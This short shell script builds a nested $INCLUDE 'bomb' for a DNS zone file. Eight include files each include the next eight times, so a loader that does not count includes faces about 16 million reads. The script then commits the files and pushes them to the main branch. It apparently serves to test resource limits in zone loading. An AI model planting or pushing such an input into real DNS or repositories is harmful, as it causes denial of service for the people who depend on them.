# Eight lines in each of eight files: 16 million reads if nobody counts.
cd zones/external
echo '$INCLUDE 1.inc' >>example.com.zone
for i in 1 2 3 4 5 6 7 8; do
	for k in 1 2 3 4 5 6 7 8; do
		echo "\$INCLUDE $((i + 1)).inc"
	done >$i.inc
done
echo 'ftp 60 A 192.0.2.21' >9.inc
git add .
git commit -q -m bomb
git push origin HEAD:main
